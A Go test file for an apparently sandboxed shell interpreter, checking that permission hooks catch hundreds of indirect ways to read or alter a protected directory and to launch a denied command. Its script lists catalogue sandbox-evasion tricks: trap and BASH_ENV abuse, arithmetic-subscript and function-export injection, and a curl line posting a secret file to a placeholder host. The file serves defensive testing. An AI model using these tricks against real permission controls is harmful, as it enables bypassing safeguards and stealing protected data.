package interp_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"path"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/aegish/aegish/interp"
	"github.com/aegish/aegish/interp/command"
)

// Scripts that read /w/s/k, which holds "key" in several forms, or change what is in
// /w/s, each by another command, option or part of the shell.
var (
	readers = []string{
		"cat s/k", "tac s/k", "rev s/k | rev", "head s/k", "tail s/k", "sort s/k", "sort -m s/k", "sort --files0-from=s/names", "sort -o o s/k; cat o", "uniq s/k", "cut -c1- s/k", "paste s/k", "paste -s s/k", "nl s/k", "fold s/k", "fmt s/k", "expand s/k", "unexpand s/k",
		"comm s/k e", "join s/k s/k", "join -t: e s/k; join -a2 e s/k", "awk 1 s/k", "awk 'BEGIN { while ((getline l < \"s/k\") > 0) print l }'", "awk -f s/awk", "awk 'BEGIN { ARGV[1] = \"s/k\"; ARGC = 2 } 1'", "awk '1' RS=x s/k", "awk 'BEGIN { \"cat s/k\" | getline x; print x }'", "awk 'BEGIN { system(\"cat s/k\") }'",
		"sed '' s/k", "sed 'r s/k' e1", "sed '1R s/k' e1", "sed -f s/sed e1", "sed -s -n p s/k", "sed '$!d;r s/k' e1", "grep . s/k", "grep -r . s", "grep -R key .", "grep -f s/k s/k e1; grep -f s/k <<< key", "grep --exclude-from=s/none -r . s", "grep -c . s/k | grep 1 && echo key",
		"rg . s", "rg -f s/k <<< key", "rg -uuu key", "jq -Rr . s/k", "jq -nr --rawfile x s/k '$x'", "jq -nr --slurpfile x s/j '$x[0]'", "jq -f s/jq -n", "jq -nr 'include \"m\"; f' -L s", "jq -nr 'input' s/j", "yq -r . s/j", "yq -n 'load(\"s/j\")'", "yq -n 'load_str(\"s/k\")'", "yq -n 'strload(\"s/k\")'", "bc s/bc", "dc s/dc", "dc -f s/dc", "bc <<< 'read()' < s/bc",
		"base64 s/k | base64 -d", "base32 s/k | base32 -d", "od -An -c s/k | tr -d ' \\n'", "xxd s/k | xxd -r", "hexdump -C s/k", "strings -n 3 s/k", "diff e s/k", "diff -r s d", "diff --from-file=s/k e1", "cmp s/k e1 || cat s/k", "patch -o s/o s/k s/diff", "patch -p0 < s/diff; cat s/k", "patch -i s/diff -o o e1; cat o s/k", "split s/k; cat xaa", "csplit s/k 1; cat xx00 xx01",
		"tee < s/k", "wc -c s/k | grep -q 4 && cat s/k", "wc --files0-from=s/names; cat s/k", "xargs -a s/k echo", "xargs cat <<< s/k", "xargs -I{} cat {} <<< s/k", "echo s/k | xargs -n1 -P2 cat", "envsubst < s/k", "tr a a < s/k", "dd if=s/k 2>/dev/null", "shuf s/k", "shuf --random-source=s/k -e key", "column s/k", "column -t s/k", "iconv s/k", "zcat -f s/k", "gzip -c s/k | gzip -dc", "gzip -dc s/k.gz", "xz -c s/k | xz -dc", "bzip2 -c s/k | bzip2 -dc", "zstd -qc s/k | zstd -qdc", "lzma -c s/k | lzma -dc",
		"tar cf - s/k | tar xOf -", "tar cf - -T s/names | tar xOf -", "tar cf x -C s k; tar xOf x", "tar xOf s/k.tar", "tar cf x --exclude-from=s/none s; tar xOf x", "tar rf x s/k; tar xOf x", "tar uf x s/k; tar xOf x", "tar df s/k.tar; tar xOf s/k.tar", "zip -q x.zip s/k; unzip -p x.zip", "zip -q x.zip -@ <<< s/k; unzip -p x.zip", "zip -qr x.zip s; unzip -p x.zip", "unzip -p s/k.zip", "cp s/k x; cat x", "cp -r s x; cat x/k", "cp -l s/k x; cat x", "cp -s /w/s/k x; cat x", "cp -t d s/k; cat d/k", "cp --parents s/k d; cat d/s/k",
		"cp -a s x; cat x/k", "install s/k x; cat x", "install -D s/k x/y; cat x/y", "install -t d s/k; cat d/k", "mv s/k x; cat x", "mv s x; cat x/k", "ln s/k x; cat x", "ln -s s/k x; cat x", "ln -L s/k x; cat x", "ln -t d s/k; cat d/k", "find s -type f -exec cat {} +", "find s -type f -exec cat {} \\;", "find s -type f -execdir cat {} \\;", "find . -name k -print0 | xargs -0 cat", "find -files0-from s/names -exec cat {} +; cat s/k", "md5sum -c s/sums; cat s/k", "file -f s/names; cat s/k",
		"date -f s/k; cat s/k", "cat < s/k", "x=$(< s/k); echo $x", "x=$(cat < s/k); echo $x", "read x < s/k; echo $x", "mapfile x < s/k; echo $x", "readarray -t x < s/k; echo $x", "exec 5< s/k; cat <&5", "exec {f}< s/k; cat /dev/fd/$f", "exec 5< s/k; cat /proc/self/fd/5", "cat /dev/stdin < s/k", "cat <(cat s/k)", "cat < <(cat s/k)", "coproc { cat s/k; }; cat <&${COPROC[0]}", "while read x; do echo $x; done < s/k", "for x in $(< s/k); do echo $x; done", "select x in $(< s/k); do echo $x; break; done <<< 1 2>&1",
		"case $(< s/k) in key) echo key;; esac", "[[ $(< s/k) == key ]] && echo key", "echo $(( $(cat s/n) )) | sed s/7/key/", ". s/sh", "source s/sh", ". ./s/sh", "PATH=s:$PATH; . sh", "bash s/sh", "bash < s/sh", "bash -c '. s/sh'", "sh s/sh", "bash -s < s/sh", "bash <(cat s/sh)", "cat s/sh | bash", "s/sh", "./s/sh", "PATH=s:$PATH; sh2", "exec s/sh", "command s/sh", "env s/sh", "env bash s/sh", "env -C s cat k", "timeout 5 s/sh", "nohup s/sh", "nice cat s/k", "setsid cat s/k", "xargs s/sh < e", "find e1 -exec s/sh \\;", "hash -p /w/s/sh q; q", "BASH_ENV=s/sh bash -c :", "export BASH_ENV=s/sh; bash e",
		"HISTFILE=s/k; set -o history; history -r; history", "history -r s/k; history", "history -n s/k; history", "eval 'cat s/k'", "trap 'cat s/k' EXIT", "trap 'cat s/k' DEBUG; :", "trap 'cat s/k' ERR; false", "trap 'cat s/k' USR1; kill -USR1 $$", "f() { :; }; trap 'cat s/k' RETURN; set -T; f", "PROMPT_COMMAND='cat s/k'; bash -ic :; cat s/k", "{ PS4='$(cat s/k) '; set -x; :; } 2>&1", "command_not_found_handle() { cat s/k; }; nosuch", "x='$(cat s/k)'; echo ${x@P}", "mapfile -C 'cat s/k #' -c 1 y < e1", "compgen -C 'cat s/k' x", "compgen -W '$(cat s/k)'", "compgen -F f x; f() { cat s/k; }; compgen -F f x",
		"compgen -f s/z", "compgen -G 's/z*'", "cd s; cat k", "pushd s; cat k", "CDPATH=/w; cd s; cat k", "cd s && ( cd /; cat ~-/k )", "ls s", "ls -R .", "echo s/*", "shopt -s globstar; echo **", "find s", "du -a s", "tree s", "printf '%s\\n' s/z*", "x=(s/*); echo ${x[@]}", "cat ./s/../s/k", "cat /w//s///k", "cat //w/s/k", "mkfifo p; cat s/k > p & cat p", "cat s/k & wait", "( cat s/k )", "cat s/k | cat | cat", "! cat s/k", "time cat s/k 2>/dev/null", "cat <<< $(< s/k)", "cat <<E\n$(< s/k)\nE", "echo ${x:-$(< s/k)}", "declare x=$(< s/k); echo $x", "export x=$(< s/k); printenv x", "printf %s \"$(< s/k)\"", "printf -v x %s \"$(< s/k)\"; echo $x",
		"numfmt < s/n; cat s/k", "seq $(cat s/n) | tail -n 1 | sed s/7/key/", "test $(cat s/k) = key && echo key", "expr $(cat s/k) : '\\(.*\\)'", "logger -f s/k; cat s/k", "getopts $(cat s/k) x; cat s/k", "readlink -f s/k > /dev/null; cat s/k", "sha256sum s/k | grep -q ' s/k' && echo key", "cksum s/k | grep -q s/k && echo key", "du -b s/k | grep -q s/k && cat s/k", "tail -n 1 -q s/k", "tail -c +1 s/k", "head -n 1 e1 s/k", "cat -- s/k", "cat - s/k < e", "look=1; cat s/k*", "cat s/{k,k}", "exec < s/k; cat", "exec 0< s/k; read x; echo $x", "bash -c 'cat <&5' 5< s/k", "curl -sd @s/k http://h/; cat s/k", "unexpand s/k", "pathchk s/k; cat s/k",
		"(exec 3<> s/k; cat <&3)", "exec 3<>s/k; mapfile -u 3 x; echo $x", "read -u 3 x 3< s/k; echo $x", "f() { cat; } < s/k; f", "{ cat; } < s/k", "if cat; then :; fi < s/k", "while cat; do break; done < s/k", "cat 0< s/k", "bash --rcfile s/sh -ic :; . s/sh", "enable -f s/k x; cat s/k",
	}
	changers = []string{
		"echo x > s/k", "echo x >> s/k", "echo x >| s/k", "echo x &> s/k", "echo x &>> s/k", "echo x >& s/k", "> s/k", ">s/new", "exec > s/new; echo x", "exec 5> s/k", "exec {f}>> s/new; echo x >&$f", "echo x 1<> s/k", "tee s/new <<< x", "tee -a s/k <<< x", "echo x | tee s/k > /dev/null", "cp e1 s/new", "cp e1 s/k", "cp -t s e1", "cp -r d s/", "cp -l e1 s/new", "cp -s /w/e1 s/new", "cp --parents d/in s", "cp -b e1 s/k", "cp --remove-destination e1 s/k", "cp -a d s/d2", "mv e1 s/", "mv -t s e1", "mv s/k s/l", "mv s t", "mv d s/", "mv -b e1 s/k", "mv -n e1 s/new", "ln e1 s/new", "ln -s x s/new",
		"ln -sf x s/k", "ln -t s e1", "ln -sr e1 s/new", "install e1 s/new", "install -d s/new", "install -D e1 s/a/b", "install -t s e1", "dd if=e1 of=s/k 2>/dev/null", "dd of=s/new < e1 2>/dev/null", "truncate -s 0 s/k", "truncate -s 9 s/new", "touch s/new", "touch -d 2000-01-01 s/k; cat s/k > s/k2", "chmod 777 s/k", "chmod -R 700 s", "mkdir s/new", "mkdir -p s/a/b/c", "rmdir s/empty", "rm s/k", "rm -f s/k", "rm -rf s", "rm -r s/empty", "rm -d s/empty", "unlink s/k 2>/dev/null || rm s/k", "find s -name k -delete", "find s -depth -delete", "find s -name k -exec rm {} +", "find e1 -fprint s/new", "find e1 -fprintf s/new x", "find e1 -fls s/new", "find e1 -fprint0 s/new", "mkfifo s/new", "mkfifo -m 600 s/new", "mktemp -p s", "mktemp s/XXXX", "mktemp -d s/XXXX", "TMPDIR=s mktemp", "mktemp --tmpdir=s a.XXX",
		"sort -o s/new e1", "sort s/k -o s/k -r <<< x; sort -ro s/new e1", "sort -S 1 -T s e1; > s/new", "uniq e1 s/new", "shuf -o s/new e1", "split e1 s/x", "split -n 1 --additional-suffix=.y e1 s/x", "split --filter='cat > s/new' e1", "csplit -f s/x e1 1", "sed -i s/k/j/ s/k", "sed -i.bak s/k/j/ s/k", "sed -n 'w s/new' e1", "sed 's/.*/&/w s/new' e1", "sed -i --follow-symlinks s/k/j/ s/k", "awk '{ print > \"s/new\" }' e1", "awk '{ print >> \"s/k\" }' e1", "awk '{ print | \"cat > s/new\" }' e1", "awk 'BEGIN { system(\"> s/new\") }'", "awk 'BEGIN { printf \"x\" > \"s/new\"; close(\"s/new\") }'", "yq -i '.a = 1' s/y", "yq -s '\"s/new\"' s/y; yq -n '1' > s/new2", "jq -n 1 > s/new", "patch s/k s/diff", "patch -p0 < s/diff", "patch -o s/new e1 s/diff", "patch -r s/rej -f e1 s/diff; > s/new", "patch -d s < s/diff; > s/new", "gzip -f s/k", "gzip -fk s/k", "gunzip -f s/k.gz", "xz s/k", "bzip2 -k s/k", "zstd -q s/k", "gzip -S .q s/k",
		"tar cf s/new e1", "tar xf k.tar", "tar xf k.tar -C s", "tar xf k2.tar -C s", "tar xf k2.tar --transform=s,^k2,s/new,", "tar xf k.tar --strip-components=1 -C s", "tar cf x --remove-files s/k", "tar rf s/k.tar e1", "zip -q s/new.zip e1", "zip -qm x s/k", "zip -qd s/k.zip k; > s/new", "unzip -qo k.zip", "unzip -qo k2.zip -d s", "unzip -qj k2.zip -d s", "xxd e1 s/new", "xxd -r /dev/null s/new", "xxd -p e1 s/new", "history -s x; history -w s/new", "history -s x; history -a s/new", "HISTFILE=s/new; set -o history; history -s x; history -w", "set -C; > s/new", "cat > s/new <<< x", "cat <<E > s/new\nx\nE", ": > s/new &\nwait", "coproc { > s/new; }; wait", "> >(cat > s/new) echo x; wait", "echo x | ( > s/new )", "bash -c '> s/new'", "eval '> s/new'", "xargs touch <<< s/new", "env touch s/new", "timeout 5 touch s/new", "nohup touch s/new > /dev/null", "trap '> s/new' EXIT", "f() { > s/new; }; f", "exec 3<>s/new", "cd s; > new", "ln -s s l; > l/new", "ln -s s/new l; > l", "mkdir -m 700 s/new", "truncate -r e1 s/k", "rm -rf ./s/../s/k", "curl -so s/new http://h/; > s/new", "wget -qO s/new http://h/; > s/new2", "logger x; > s/new", "column e1 > s/new", "time -o s/new :; > s/new", "script=1; > s/new", "cp /dev/null s/k", "chown $UID s/k; chmod 600 s/k", "touch -h s/k; rm s/k", "nl e1 > s/new 2> s/new2",
	}
)

// TestEveryWayToAFileIsAsked runs each where the hook denies all of /w/s, once it has
// been seen to do something where nobody denies anything.
func TestEveryWayToAFileIsAsked(t *testing.T) {
	t.Parallel()
	const setup = "echo \"e\" > e1; > e; mkdir -p s/empty d s/d; echo in > d/in; echo key > s/k; > s/zq7; echo 7 > s/n; echo '\"key\"' > s/j; echo 'a: key' > s/y; printf 's/k\\0' > s/names; > s/none; gzip -k s/k; tar cf s/k.tar s/k; zip -q s/k.zip s/k; echo 'def f: \"key\";' > s/m.jq; echo '\"key\"' > s/jq; " +
		"echo 'BEGIN { print \"key\" }' > s/awk; echo 's/.*/key/' > s/sed; echo 'print \"key\\n\"' > s/bc; echo '[key]p' > s/dc; printf '%s\\n' '#!/bin/bash' 'echo key' > s/sh; cp s/sh s/sh2; chmod +x s/sh s/sh2; printf '%s\\n' '--- s/k' '+++ s/k' '@@ -1 +1 @@' '-key' '+kei' > s/diff; md5sum s/k > s/sums; touch -d 2001-01-01 s/k; " +
		"cp -r s t; mkdir t/u; mv t/k t/u/k; (cd t/u; mkdir s; mv k s/new; tar cf /w/k.tar s; zip -qr /w/k.zip s; mv s/new k2; tar cf /w/k2.tar k2; zip -q /w/k2.zip k2); rm -r t; "
	all := allTools(t)
	deny := interp.Hooks{BeforeOpen: func(_ context.Context, o interp.Open) error {
		if o.Name == "/w/s" || strings.HasPrefix(o.Name, "/w/s/") {
			return errors.New("denied")
		}
		return nil
	}}
	try := func(script string, hooks interp.Hooks) (before, after, printed string) {
		fsys, out := world(t, all), &bytes.Buffer{}
		plain := session(t, "/w", io.Discard, io.Discard, interp.WithFS(fsys), interp.WithRegistry(all))
		if _, err := plain.Run(t.Context(), setup); err != nil {
			t.Fatal(err)
		}
		before = tree(t, fsys, "/w/s")
		s := session(t, "/w", out, io.Discard, interp.WithFS(fsys), interp.WithHooks(hooks), interp.WithRegistry(all))
		if _, err := s.Run(t.Context(), script); err != nil {
			t.Errorf("%s: %v", script, err)
		}
		return before, tree(t, fsys, "/w/s"), out.String()
	}
	for what, scripts := range map[string][]string{"reading": readers, "changing": changers} {
		for _, script := range scripts {
			t.Run(what+"/"+script, func(t *testing.T) {
				t.Parallel()
				if before, after, printed := try(script, interp.Hooks{}); before == after && !strings.Contains(printed, "key") && !strings.Contains(printed, "zq7") {
					t.Errorf("it is no attack: it printed %q", printed)
				}
				before, after, printed := try(script, deny)
				if before != after || strings.Contains(printed, "key") || strings.Contains(printed, "zq7") {
					t.Errorf("it printed %q, and changed\n%sto\n%s", printed, before, after)
				}
			})
		}
	}
}

// starters run the command victim, each in another way.
var starters = []string{
	"victim", "\\victim", "v'ict'im", "$'\\x76ictim'", "command victim", "command -p victim", "builtin command victim", "exec victim", "(exec victim)", "eval victim", "env victim", "env -i PATH=/bin victim", "env -S victim", "env A=b victim", "nice victim", "nohup victim", "setsid victim", "timeout 5 victim", "timeout -s KILL 5 victim", "time victim", "\\time victim", "xargs victim <<< x", "xargs -P2 -n1 victim <<< 'a b'", "xargs sh -c victim <<< x", "find /w -maxdepth 0 -exec victim \\;", "find /w -maxdepth 0 -exec victim {} +", "find /w -maxdepth 0 -execdir victim \\;", "echo y | find /w -maxdepth 0 -ok victim \\;", "find /w -maxdepth 0 -exec sh -c victim \\;", "awk 'BEGIN { system(\"victim\") }'", "awk 'BEGIN { \"victim\" | getline }'", "awk 'BEGIN { print | \"victim\" }'", "split --filter=victim <<< x", "sort --compress-program=victim <<< x; victim", "tar cf a.tar --use-compress-program=victim /bin; victim", "tar cf - /etc | tar xf - --to-command=victim; victim",
	"bash -c victim", "sh -c victim", "bash <<< victim", "bash -s <<< victim", "echo victim | sh", "bash <(echo victim)", ". <(echo victim)", ". /dev/stdin <<< victim", "echo victim > s; . ./s", "echo victim > s; bash s", "echo victim > s; chmod +x s; ./s", "printf '#!/bin/sh\\nvictim' > s; chmod +x s; ./s", "printf '#!/bin/victim\\n' > s; chmod +x s; ./s", "printf '#!/usr/bin/env victim\\n' > s; chmod +x s; ./s", "printf '#!/usr/bin/env -S victim x\\n' > s; chmod +x s; ./s", "echo victim > s; BASH_ENV=s bash -c :", "echo victim > s; export BASH_ENV=/w/s; bash -c :; echo : | bash",
	"f() { victim; }; f", "f() { victim; }; export -f f; bash -c f", "f() (victim); f", "alias v=victim; shopt -s expand_aliases\nv", "bash -O expand_aliases -c $'alias v=victim\\nv'", "trap victim EXIT", "trap victim DEBUG; :", "trap victim ERR; false", "trap victim USR1; kill -USR1 $$", "trap victim RETURN; f() { :; }; declare -ft f; f", "(trap victim EXIT)", "bash -c 'trap victim EXIT'", "trap victim CHLD; set -m; sleep 0; victim", "coproc victim; wait", "coproc V { victim; }; wait", "victim &\nwait", "victim | cat", "cat < <(victim)", "cat <(victim)", "echo x > >(victim); wait", "tee >(victim) <<< x; wait", "x=$(victim)", "x=`victim`", "echo \"$(victim)\"", "echo ${x:-$(victim)}", "echo $(( $(victim) ))", "a[$(victim)]=1", "[[ -n $(victim) ]]", "case $(victim) in x) ;; esac", "for i in $(victim); do :; done", "cat <<< $(victim)", "cat <<E\n$(victim)\nE", "declare x=$(victim)", "local x=$(victim); x=$(victim)", "let 'a[$(victim)]'; victim",
	"x='a[$(victim)]'; echo $((x))", "x='a[$(victim)]'; [[ x -eq 0 ]]", "x='a[$(victim)]'; ((x))", "x='a[$(victim)]'; declare -i y=x", "unset 'a[$(victim)]'; a=1; unset 'a[$(victim)]'", "read 'a[$(victim)]' <<< x", "printf -v 'a[$(victim)]' x", "test -v 'a[$(victim)]'; a=(1); test -v 'a[$(victim)]'", "declare -n r='a[$(victim)]'; r=1; echo $r", "x='$(victim)'; echo ${x@P}", "PS4='$(victim)'; set -x; :", "PS1='$(victim)'; echo ${PS1@P}", "mapfile -C victim -c 1 <<< x", "compgen -C victim", "compgen -W '$(victim)'", "f() { victim; }; compgen -F f", "command_not_found_handle() { victim; }; nosuch", "command_not_found_handle() { victim; }; export -f command_not_found_handle; bash -c nosuch",
	"hash -p /bin/victim o; o", "hash -p /bin/victim o; command o", "BASH_CMDS[o]=/bin/victim; o", "/bin/victim", "/usr/bin/victim", "cd /bin; ./victim", "PATH=/usr/bin victim", "v=victim; $v", "v=(victim); \"${v[@]}\"", "set -- victim; \"$@\"", "${x:-victim}", "$(echo victim)", "{victim,}", "vic{tim,}", "cd /bin; vict*", "! victim", "if victim; then :; fi", "while victim; do break; done", "until ! victim; do break; done", "true && victim", "false || victim", "{ victim; }", "( victim )", "select x in a; do victim; break; done <<< 1", "for ((;;)); do victim; break; done", "case x in x) victim;; esac", "victim > /dev/null", "2>&1 victim", "A=b victim", "time -p victim", "exec -a x victim", "exec -c victim", "exec -l victim", "enable -n victim; victim", "history -s victim; fc -s", "set -o history; history -s victim; fc -s victim", "shopt -s lastpipe; echo x | victim", "wait; kill -0 $$ && victim", "bash --norc -c 'command victim'", "bash -c 'exec victim'", "env bash -c 'eval victim'", "jobs -x victim", "set -m; victim & wait", "timeout 5 bash -c 'trap victim EXIT'", "xargs -a <(echo x) victim", "dc <<< '!victim'; victim", "watch=1 victim", "yq -n '\"victim\"' | sh", "seq 1 | xargs -n 1 sh -c 'victim'",
}

// data are scripts in which the name of the command stands in values alone, which bash
// does not read as text of commands.
var data = []string{
	"k='$(victim)'; declare -A m; (( m[$k]++ )); echo ${m[$k]}", "k='$(victim)'; declare -A m; m[$k]=1; echo ${m[@]} ${!m[@]} ${m[$k]:-x}", "k='$(victim)]'; declare -A m=([$k]=1); echo ${m[$k]}", "k='x[$(victim)]'; [[ $k == $k ]]; [ \"$k\" = x ]; test -n \"$k\"", "k='`victim`'; echo $k \"$k\" ${k} ${k/a/b} ${k@Q} ${k^^}", "read -r k <<< '$(victim)'; echo $k",
	"read -ra k <<< '$(victim) `victim`'; echo ${k[@]}", "mapfile k <<< '$(victim)'; echo ${k[@]}", "> '$(victim)'; echo *; for f in *; do echo $f; [[ -e $f ]]; done", "> '; victim'; ls | while read -r f; do cat \"./$f\"; done", "set -- '; victim' '$(victim)'; echo $* \"$@\"; printf '%s %q\\n' \"$@\"", "case '$(victim)' in '$('*) echo x;; esac", "k='$(victim)'; cat <<< $k; cat <<E\n$k\nE", "cat <<'E'\n$(victim)\nE",
	"k='a;victim'; alias x=\"echo '$k'\"; alias", "export k='() { victim; }'; bash -c 'k; :'", "env 'BASH_FUNC_k%%=() { :; }; victim' bash -c :", "env 'k=() { :; }; victim' bash -c :", "echo '$(victim)' | xargs echo", "printf 'victim\\0' | xargs -0 echo", "k=1+1; declare -i n=k; echo $n; k='victim'; echo $((k))", "sed 's/x/$(victim)/' <<< x", "awk -v k='$(victim)' 'BEGIN { print k }'", "find . -name '$(victim)'", "declare -n r=k; k='$(victim)'; echo $r",
	"trap -- '' EXIT; k='victim'; trap", "PS4='+ '; set -x; k='$(victim)'; : \"$k\"", "select k in '$(victim)'; do echo $k; break; done <<< 1", "IFS=';'; k='a;victim'; echo $k; eval echo '$k'", "printf '%b' '\\044(victim)\\n'", "echo '$(victim)' > f; k=$(< f); echo $k; cat f", "getopts 'a:' k -a '$(victim)'; echo $OPTARG", "printf -v k '%s' '$(victim)'; echo \"${k:0:3}\" \"${k#\\$}\"", "compgen -W 'a b' -- '$(victim)'", "history -s '$(victim)'; history",
}

// TestDataIsNoCommand runs scripts whose data would be commands, if anything read it
// again.
func TestDataIsNoCommand(t *testing.T) {
	t.Parallel()
	for _, script := range data {
		t.Run(script, func(t *testing.T) {
			t.Parallel()
			var times atomic.Int32
			tools := withVictim(t, &times)
			s := session(t, "/w", io.Discard, io.Discard, interp.WithFS(world(t, tools)), interp.WithRegistry(tools))
			if _, err := s.Run(t.Context(), script); err != nil || times.Load() != 0 {
				t.Errorf("it ran %d times, %v", times.Load(), err)
			}
		})
	}
}

// withVictim is all commands and one more, which counts its calls.
func withVictim(t *testing.T, times *atomic.Int32) command.Registry {
	t.Helper()
	b, all := command.NewRegistry(), allTools(t)
	for _, name := range all.Names() {
		e, _ := all.Lookup(name)
		if err := b.Add(name, e); err != nil {
			t.Fatal(err)
		}
	}
	if err := b.Add("victim", command.Entry{Command: command.Func(func(context.Context, *command.Call) int {
		times.Add(1)
		return 0
	})}); err != nil {
		t.Fatal(err)
	}
	return b.Build()
}

// TestEveryWayToACommandIsAsked runs each where the hook denies victim, once it has been
// seen to run it.
func TestEveryWayToACommandIsAsked(t *testing.T) {
	t.Parallel()
	try := func(script string, hooks interp.Hooks) int32 {
		var times atomic.Int32
		tools := withVictim(t, &times) // its own, because jobs outlive the values of a context
		s := session(t, "/w", io.Discard, io.Discard, interp.WithFS(world(t, tools)), interp.WithHooks(hooks), interp.WithRegistry(tools))
		if _, err := s.Run(t.Context(), script); err != nil {
			t.Errorf("%s: %v", script, err)
		}
		return times.Load()
	}
	for _, script := range starters {
		t.Run(script, func(t *testing.T) {
			t.Parallel()
			if try(script, interp.Hooks{}) == 0 {
				t.Error("it is no attack")
			}
			var asked atomic.Int32
			if n := try(script, interp.Hooks{BeforeCommand: func(_ context.Context, e interp.Event) error {
				if path.Base(e.Argv[0]) != "victim" {
					return nil
				}
				asked.Add(1)
				return errors.New("denied")
			}}); n != 0 || asked.Load() == 0 {
				t.Errorf("it ran %d times, and the hook was asked %d times", n, asked.Load())
			}
		})
	}
}
